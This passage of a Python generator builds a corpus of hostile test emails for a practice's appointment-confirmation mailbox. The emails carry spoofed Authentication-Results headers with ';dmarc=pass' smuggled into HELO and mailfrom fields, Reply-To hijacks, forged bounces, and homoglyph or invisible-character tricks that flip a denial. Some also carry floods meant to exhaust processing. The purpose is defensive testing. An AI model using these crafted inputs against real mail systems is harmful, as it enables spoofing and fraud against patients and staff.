            message_id="h068@web.de",
            extra="Authentication-Results: mx.praxis-impulse.de; dmarc=fail header.from=web.de\r\n"
            "Authentication-Results: mx.praxis-impulse.de; dmarc=pass header.from=web.de\r\n",
        ),
        authserv_only=True,
    ),
    Hostile(
        "h069_ar_unaligned_dkim_and_lookalike_id",
        "our id with dkim=pass for evil.io only; a look-alike id mx.praxis-impulse.de.evil.io",
        "P19",
        lambda: plain(
            CONFIRM,
            message_id="h069@web.de",
            extra="Authentication-Results: mx.praxis-impulse.de (dmarc=pass); "
            "dkim=pass header.d=evil.io; dmarc=none\r\n"
            "Authentication-Results: mx.praxis-impulse.de.evil.io; dmarc=pass\r\n",
        ),
        authserv_only=True,
    ),
    Hostile(
        "h070_no_authentication_results",
        "a clean confirmation from the patient's address without any A-R header",
        "P19",
        lambda: plain(CONFIRM, message_id="h070@web.de"),
        authserv_only=True,
    ),
    # P20: Reply-To
    Hostile(
        "h071_reply_to_elsewhere",
        "the patient's address with Reply-To: the attacker",
        "P20",
        lambda: plain(message_id="h071@web.de", extra=f"Reply-To: {EVIL}\r\n"),
    ),
    Hostile(
        "h072_stranger_reply_to_patient",
        "a stranger with Reply-To: the patient (answer would go to the patient)",
        "P20",
        lambda: plain(
            CONFIRM,
            sender=EVIL,
            message_id="h072@evil.io",
            extra="Reply-To: erika.beispiel@web.de\r\n",
        ),
    ),
    # P21: dates
    Hostile(
        "h073_missing_date",
        "no Date header",
        "P21",
        lambda: plain(message_id="h073@web.de", date=None),
    ),
    Hostile(
        "h074_garbage_date",
        "Date: gestern irgendwann",
        "P21",
        lambda: plain(message_id="h074@web.de", date="gestern irgendwann"),
    ),
    Hostile(
        "h075_future_date",
        "Date in the year 2099",
        "P21",
        lambda: plain(message_id="h075@web.de", date="Thu, 01 Jan 2099 10:00:00 +0100"),
    ),
    Hostile(
        "h076_date_overflow",
        "Date with out-of-range fields and a 9999 offset",
        "P21",
        lambda: plain(message_id="h076@web.de", date="Tue, 99 Foo 99999999 99:99:99 +9999"),
    ),
    # line endings
    Hostile(
        "h077_bare_lf",
        "bare LF line endings throughout",
        "S11, P1",
        lambda: plain(message_id="h077@web.de").replace(b"\r\n", b"\n"),
    ),
    Hostile(
        "h078_lone_cr",
        "lone CR line endings throughout",
        "S11, P1",
        lambda: plain(message_id="h078@web.de").replace(b"\r\n", b"\r"),
    ),
    Hostile(
        "h079_mixed_line_endings",
        "CRLF, LF and CR mixed inside one multipart",
        "S11, P1",
        lambda: (
            headers(
                sender=JONAS, message_id="h079@gmx.de", content_type='multipart/mixed; boundary="L"'
            ).replace(b"\r\n", b"\n")
            + b"\r--L\nContent-Type: text/plain\r\rAnbei\r\n"
            + attachment_part("L", pdf()).replace(b"\r\n", b"\r")
            + b"--L--\n"
        ),
    ),
    # garbage
    Hostile(
        "h080_binary_noise",
        "4 KB of binary noise",
        "P22",
        lambda: pseudo_random(4096),
    ),
    Hostile("h081_empty_file", "zero bytes", "P22", lambda: b""),
    Hostile(
        "h082_headers_only",
        "a header block and no body, no final newline",
        "P1",
        lambda: headers(message_id="h082@web.de").rstrip(b"\r\n"),
    ),
    Hostile(
        "h083_zlib_compressed_body",
        "a body that is zlib-compressed bytes declared as text/plain utf-8",
        "P3",
        lambda: headers(message_id="h083@web.de") + b"\r\n" + zlib.compress(QUESTION.encode() * 20),
    ),
    # threads and our own identity
    Hostile(
        "h084_stranger_in_our_thread",
        "a stranger answers 'Ja' under a Message-ID that looks like ours",
        "P16, P20, L11",
        lambda: plain(
            "Ja.\r\n",
            sender=EVIL,
            subject="Re: Bitte bestaetigen Sie Ihren Termin",
            message_id="h084@evil.io",
            extra="In-Reply-To: <pw-0123456789abcdef0123456789abcdef@praxis-impulse.de>\r\n",
        ),
    ),
    Hostile(
        "h085_references_flood",
        "References with 120 ids that look like ours (within the header limits)",
        "P7, L11",
        lambda: plain(
            "Ja.\r\n",
            sender=EVIL,
            message_id="h085@evil.io",
            extra="References:"
            + "".join(f"\r\n <pw-{i:032x}@praxis-impulse.de>" for i in range(120))
            + "\r\n",
        ),
    ),
    Hostile(
        "h086_auto_submitted_confirmation",
        "the patient's address, Auto-Submitted: auto-replied, text confirming",
        "L1",
        lambda: plain(CONFIRM, message_id="h086@web.de", extra="Auto-Submitted: auto-replied\r\n"),
    ),
    Hostile(
        "h087_forged_bounce_for_patient",
        "a stranger's delivery report claiming the patient's address is dead, no id of ours",
        "L8",
        lambda: report(
            "erika.beispiel@web.de",
            action="failed",
            status="5.1.1",
            sender=EVIL,
            returned_id="nothing-of-ours@evil.io",
            message_id="h087@evil.io",
        ),
    ),
    Hostile(
        "h088_calendar_cancel",
        "a text/calendar METHOD:CANCEL for the patient's appointment from a stranger",
        "P20",
        lambda: plain(
            "BEGIN:VCALENDAR\r\nMETHOD:CANCEL\r\nBEGIN:VEVENT\r\nUID:H-01\r\n"
            "DTSTART:20260615T070000Z\r\nSTATUS:CANCELLED\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n",
            sender=EVIL,
            message_id="h088@evil.io",
            content_type="text/calendar; method=CANCEL; charset=utf-8",
        ),
    ),
    Hostile(
        "h089_smime_opaque",
        "application/pkcs7-mime smime.p7m of noise",
        "P11",
        lambda: (
            headers(
                message_id="h089@web.de",
                content_type='application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"',
                extra="Content-Transfer-Encoding: base64\r\n",
            )
            + b"\r\n"
            + b64(pseudo_random(600, seed=7))
        ),
    ),
    Hostile(
        "h090_inbound_internal_headers",
        "inbound copies of loop headers naming us (X-Loop, X-RT-Loop-Prevention)",
        "L5, L11",
        lambda: plain(
            CONFIRM,
            message_id="h090@web.de",
            extra="X-Loop: termine@praxis-impulse.de\r\nX-RT-Loop-Prevention: praxis\r\n",
        ),
    ),
]


# --- issue 12: what a person sees, auto-responders, damage, bounded work ------------------

OUR_REQUEST = "<pw-00000000000000000000000000000001@praxis-impulse.de>"
CONFIRMING = "Die Videobehandlung am 15.06.2026 hat stattgefunden."


def in_thread(body: str, message_id: str, **kwargs: str) -> bytes:
    """A reply from the patient's address in our thread (In-Reply-To our request)."""
    extra = kwargs.pop("extra", "")
    return plain(
        body,
        subject="Re: Bitte bestätigen Sie Ihren Termin vom 15.06.2026",
        message_id=message_id,
        extra=f"In-Reply-To: {OUR_REQUEST}\r\nReferences: {OUR_REQUEST}\r\n{extra}",
        **kwargs,
    )


def alternative_parts(plain_text: str, html: str, message_id: str) -> bytes:
    return (
        headers(message_id=message_id, content_type='multipart/alternative; boundary="ALT"')
        + b"\r\n--ALT\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
        + plain_text.encode()
        + b"\r\n--ALT\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
        + html.encode()
        + b"\r\n--ALT--\r\n"
    )


def read_receipt(message_id: str) -> bytes:
    return (
        headers(
            subject="Gelesen: Bitte bestätigen Sie Ihren Termin vom 15.06.2026",
            message_id=message_id,
            content_type='multipart/report; report-type=disposition-notification; boundary="MDN"',
        )
        + (
            "\r\n--MDN\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
            f"Ihre Nachricht wurde gelesen. {CONFIRMING}\r\n"
            "--MDN\r\nContent-Type: message/disposition-notification\r\n\r\n"
            "Reporting-UA: web.de\r\nFinal-Recipient: rfc822; erika.beispiel@web.de\r\n"
            f"Original-Message-ID: {OUR_REQUEST}\r\n"
            "Disposition: manual-action/MDN-sent-manually; displayed\r\n--MDN--\r\n"
        ).encode()
    )


def rfc2231_flood(params: int, parts: int, message_id: str) -> bytes:
    disposition = b"attachment;" + b"".join(
        b"\r\n filename*%d*=Anamnese%%2E%%70%%64%%66;" % i for i in range(params)
    )
    return with_attachments(
        [attachment_part("HOSTILE-B1", pdf(), disposition=disposition)] * parts,
        message_id=message_id,
    )


CORPUS += [
    # issue 12, point 3: auto-responders inside our thread, read receipts
    Hostile(
        "h101_autoresponder_danke_wir_melden_uns",
        "auto-responder without Auto-Submitted in our thread: 'Vielen Dank für Ihre Nachricht'"
        " echoing a confirming sentence, 'wir melden uns schnellstmöglich'",
        "L1, issue 12.3",
        lambda: in_thread(
            f"Vielen Dank für Ihre Nachricht.\r\n„{CONFIRMING}“\r\n"
            "Wir melden uns schnellstmöglich bei Ihnen.\r\n",
            "h101@web.de",
        ),
    ),
    Hostile(
        "h102_ticket_acknowledgement",
        "ticket system acknowledgement quoting the confirmation, no automation header",
        "L1, issue 12.3",
        lambda: in_thread(
            f"[Ticket#2026061612345] Ihre Anfrage ist bei uns eingegangen:\r\n{CONFIRMING}\r\n",
            "h102@web.de",
        ),
    ),
    Hostile(
        "h103_automatisch_erzeugte_antwort",
        "'Dies ist eine automatisch erzeugte Antwort' with a confirming sentence",
        "L1, issue 12.3",
        lambda: in_thread(
            f"Dies ist eine automatisch erzeugte Antwort.\r\n{CONFIRMING}\r\n", "h103@web.de"
        ),
    ),
    Hostile(
        "h104_english_autoresponder",
        "English auto-responder: 'Thank you for your message ... we will get back to you'",
        "L1, issue 12.3",
        lambda: in_thread(
            "Thank you for your message. We will get back to you as soon as possible.\r\n"
            "The video session on 15.06.2026 took place.\r\n",
            "h104@web.de",
        ),
    ),
    Hostile(
        "h105_read_receipt_mdn",
        "read receipt (report-type=disposition-notification) whose text confirms",
        "L1, issue 12.3",
        lambda: read_receipt("h105@web.de"),
    ),
    # issue 12, point 4: invisible text changes meaning
    Hostile(
        "h106_html_span_inside_nicht",
        "HTML-only denial 'ni<span>cht</span> stattgefunden' (read 'ni cht' before)",
        "P13, issue 12.4",
        lambda: (
            headers(message_id="h106@web.de", content_type="text/html; charset=utf-8")
            + b"\r\n<p>Die Videobehandlung am 15.06.2026 hat ni<span>cht</span> "
            b"stattgefunden.</p>\r\n"
        ),
    ),
    Hostile(
        "h107_invisible_characters_in_nicht",
        "soft hyphen, ZWSP, ZWNJ, ZWJ, word joiner and BOM inside 'nicht'",
        "issue 12.4",
        lambda: plain(
            "Die Videobehandlung am 15.06.2026 hat ni\u00adc\u200bh\u200c\u200d\u2060t\ufeff "
            "stattgefunden.\r\n",
            message_id="h107@web.de",
        ),
    ),
    Hostile(
        "h108_homoglyphs_in_nicht",
        "Cyrillic і, с and т inside 'nicht' (looks like a denial, reads as none)",
        "issue 12.4",
        lambda: plain(
            "Die Videobehandlung am 15.06.2026 hat n\u0456\u0441h\u0442 stattgefunden.\r\n",
            message_id="h108@web.de",
        ),
    ),
    Hostile(
        "h109_hidden_html_text",
        "HTML whose 'nicht' is hidden (font-size:0, hidden attribute, white on white)",
        "P13, issue 12.4",
        lambda: (
            headers(message_id="h109@web.de", content_type="text/html; charset=utf-8")
            + b'\r\n<p>Die Videobehandlung am 15.06.2026 hat <span style="font-size:0">'
            b'nicht</span> <span hidden>nicht</span> <font color="#ffffff">nicht</font> '
            b"stattgefunden.</p>\r\n"
        ),
    ),
    Hostile(
        "h110_plain_yes_html_no",
        "multipart/alternative: text/plain confirms, text/html (what the patient sees) denies",
        "issue 12.4",
        lambda: alternative_parts(
            CONFIRMING,
            "<p>Die Videobehandlung am 15.06.2026 hat <b>nicht</b> stattgefunden.</p>",
            "h110@web.de",
        ),
    ),
    Hostile(
        "h117_latin_lookalikes_in_nicht",
        "'nıcht' with a dotless i and 'nic\u0331ht' with a combining mark: Latin look-alikes",
        "issue 12.4",
        lambda: plain(
            "Die Videobehandlung am 15.06.2026 hat n\u0131cht stattgefunden, "
            "am 15.06.2026 nic\u0331ht.\r\n",
            message_id="h117@web.de",
        ),
    ),
    # issue 12, point 5: damaged mail
    Hostile(
        "h111_invalid_base64_confirmation",
        "a confirming text in base64 with invalid characters",
        "P9, issue 12.5",
        lambda: (
            headers(message_id="h111@web.de", extra="Content-Transfer-Encoding: base64\r\n")
            + b"\r\n"
            + base64.b64encode(CONFIRMING.encode())
            + b"@@!!\r\n"
        ),
    ),
    Hostile(
        "h112_broken_qp_confirmation",
        "a confirming text in quoted-printable with =ZZ escapes",
        "P9, issue 12.5",
        lambda: (
            headers(
                message_id="h112@web.de", extra="Content-Transfer-Encoding: quoted-printable\r\n"
            )
            + b"\r\nDie Videobehandlung am 15.06.2026 hat =ZZstattgefunden.\r\n"
        ),
    ),
    Hostile(
        "h113_unknown_charset_confirmation",
        "a confirming text declared in charset=x-unknown-foo",
        "P2, issue 12.5",
        lambda: plain(
            CONFIRMING + "\r\n",
            message_id="h113@web.de",
            content_type="text/plain; charset=x-unknown-foo",
        ),
    ),
    # issue 12, point 6: bounded work
    Hostile(
        "h114_repeated_phrases_100kb",
        "a confirmation followed by 100 KB of 'hat geklappt' (classify was quadratic: 19 s)",
        "P7, issue 12.6",
        lambda: plain(CONFIRMING + "\r\n" + "hat geklappt " * 8000, message_id="h114@web.de"),
    ),
    Hostile(
        "h115_rfc2231_continuation_flood",
        "RFC 2231 file name in 300 continuations on each of 8 parts (3 MB took 20 s)",
        "P7, P10, issue 12.6",
        lambda: rfc2231_flood(300, 8, "h115@gmx.de"),
    ),
    # issue 12, point 1: the sender writes parts of our server's Authentication-Results
    # (HELO name, envelope sender, comments quoting them); our server said dmarc=fail
    Hostile(
        "h130_ar_pass_in_encoded_word",
        "our server says dmarc=fail; ';dmarc=pass' hides in an RFC 2047 encoded word of smtp.mailfrom",
        "P19, issue 12.1",
        lambda: plain(
            CONFIRM,
            message_id="h130@web.de",
            extra="Authentication-Results: mx.praxis-impulse.de; spf=pass\r\n"
            " smtp.mailfrom==?utf-8?q?x=3Bdmarc=3Dpass?=@evil.io; dmarc=fail header.from=web.de\r\n",
        ),
        authserv_only=True,
    ),
    Hostile(
        "h131_ar_pass_in_quoted_mailfrom",
        'our server says dmarc=fail; smtp.mailfrom="x;dmarc=pass"@evil.io',
        "P19, issue 12.1",
        lambda: plain(
            CONFIRM,
            message_id="h131@web.de",
            extra='Authentication-Results: mx.praxis-impulse.de; spf=pass smtp.mailfrom="x;dmarc=pass"@evil.io;'
            " dmarc=fail header.from=web.de\r\n",
        ),
        authserv_only=True,
    ),
    Hostile(
        "h132_ar_pass_in_nested_comment",
        "our server says dmarc=fail; ';dmarc=pass' inside a nested comment",
        "P19, issue 12.1",
        lambda: plain(
            CONFIRM,
            message_id="h132@web.de",
            extra="Authentication-Results: mx.praxis-impulse.de; spf=pass (sender (evil.io) ;dmarc=pass (x))"
            " smtp.mailfrom=evil.io; dmarc=fail header.from=web.de\r\n",
        ),
        authserv_only=True,
    ),
    Hostile(
        "h133_ar_pass_in_unquoted_helo",
        "our server says dmarc=fail; the HELO name was x;dmarc=pass (unquoted)",
        "P19, issue 12.1",
        lambda: plain(
            CONFIRM,
            message_id="h133@web.de",
            extra="Authentication-Results: mx.praxis-impulse.de; spf=none smtp.helo=x;dmarc=pass;"
            " dmarc=fail header.from=web.de\r\n",
        ),
        authserv_only=True,
    ),
    Hostile(
        "h134_ar_dmarc_pass_for_another_domain",
        "our server's dmarc=pass is for evil.io, the From says web.de",
        "P19, issue 12.1",
        lambda: plain(
            CONFIRM,
            message_id="h134@web.de",
            extra="Authentication-Results: mx.praxis-impulse.de; dmarc=pass header.from=evil.io\r\n",
        ),
        authserv_only=True,
    ),
    Hostile(
        "h135_ar_unclosed_comment_hides_fail",
        "a HELO 'x(' opens a comment that never closes, hiding our server's dmarc=fail",
        "P19, issue 12.1",
        lambda: plain(
            CONFIRM,
            message_id="h135@web.de",
            extra="Authentication-Results: mx.praxis-impulse.de; dkim=pass header.d=mail.web.de;"
            " spf=none smtp.helo=x(y; dmarc=fail (p=reject adkim=s) header.from=web.de\r\n",
        ),
        authserv_only=True,
    ),
    # issue 12, point 7: every Reply-To header
    Hostile(
        "h116_second_reply_to_elsewhere",
        "a confirmation with Reply-To: the patient, then a second Reply-To: a stranger",
        "P20, issue 12.7",
        lambda: plain(
            CONFIRM,
            message_id="h116@web.de",
            extra=f"Reply-To: erika.beispiel@web.de\r\nReply-To: {EVIL}\r\n",
        ),
    ),
]


def readme() -> str:
    lines = [
        "# Hostile-mail corpus",
        "",
        "Generated by `python -m tools.corpus.hostile` (`--check` to verify); do not edit",
        "the .eml files by hand. `tests/corpus/test_hostile.py` runs every file through a real",
        "Maildir cycle and checks: no crash, processed or flagged for staff, no answer sent,",
        "nothing written outside the attachments directory, the mail still in the mailbox,",
        "no confirmation recorded. Files marked *authserv* are a clean confirmation but for",
        "their Authentication-Results and only count where the practice sets",
        "`mailbox.trusted_authserv_id`. Rows refer to /work/shared/RELIABILITY.md section 1.",
        "",
        "| File | Attacks | Rows |",
        "|---|---|---|",
    ]
    for item in CORPUS:
        note = " *(authserv)*" if item.authserv_only else ""
        attacks = item.attacks.replace("|", "\\|")
        lines.append(f"| `{item.name}.eml` | {attacks}{note} | {item.rows} |")
    return "\n".join(lines) + "\n"


def write(directory: Path = HERE) -> None:
    for item in CORPUS:
        (directory / f"{item.name}.eml").write_bytes(item.build())
    (directory / "README.md").write_text(readme(), encoding="utf-8")


def differences(directory: Path = HERE) -> list[str]:
    wrong = [
        item.name
        for item in CORPUS
        if not (directory / f"{item.name}.eml").is_file()
        or (directory / f"{item.name}.eml").read_bytes() != item.build()
    ]
    if (directory / "README.md").read_text(encoding="utf-8") != readme():
        wrong.append("README.md")
    return wrong


if __name__ == "__main__":
    if sys.argv[1:] == ["--check"]:
        stale = differences()
        for name in stale:
            print(f"out of date: {name}")
        sys.exit(1 if stale else 0)
    write()
